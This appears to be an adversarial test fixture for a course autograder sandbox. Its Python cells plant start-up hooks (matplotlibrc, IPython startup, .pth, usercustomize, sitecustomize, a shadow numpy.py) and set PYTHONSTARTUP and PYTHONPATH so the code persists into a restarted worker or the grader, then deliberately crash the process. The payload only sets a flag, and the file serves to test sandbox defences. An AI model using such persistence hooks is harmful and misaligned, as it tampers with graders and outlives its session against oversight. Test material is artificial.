"""Plants start-up hooks for the next interpreter: matplotlibrc, PYTHONSTARTUP, .pth in user site, ~/.ipython.

attack: writes a matplotlibrc selecting a backend module of its own, an IPython startup script, a user-site .pth with an import line and a fake numpy.py in the working folder, then sets os.environ hooks (PYTHONSTARTUP, PYTHONPATH), hoping a restarted worker or the grader picks them up
class: planting
honest: sigmoid, relu, count_parameters
grading-failed: predict
"""

# %% +after relu_code
import os
import site
from pathlib import Path

_hook = "import builtins; builtins.DLCOURSE_PLANTED = True\n"
_targets = {
    Path(os.environ.get("MPLCONFIGDIR", str(Path.home() / ".matplotlib"))) / "matplotlibrc": "backend: module://evil\n",
    Path.home() / ".ipython" / "profile_default" / "startup" / "00-evil.py": _hook,
    Path(site.getusersitepackages()) / "evil.pth": _hook,
    Path(site.getusersitepackages()) / "usercustomize.py": _hook,
    Path.cwd() / "numpy.py": "raise ImportError('planted')\n",
    Path("/tmp") / "sitecustomize.py": _hook,
}
for _path, _text in _targets.items():
    try:
        _path.parent.mkdir(parents=True, exist_ok=True)
        _path.write_text(_text)
        print("planted", _path)
    except OSError as exc:
        print("could not plant", _path, exc)
os.environ["PYTHONSTARTUP"] = str(Path("/tmp") / "sitecustomize.py")
os.environ["PYTHONPATH"] = "/tmp:" + os.environ.get("PYTHONPATH", "")

# %% predict_code
import os


def predict(X, W, w0):
    # The worker is started afresh after this crash; the plants above should not follow it.
    os._exit(3)
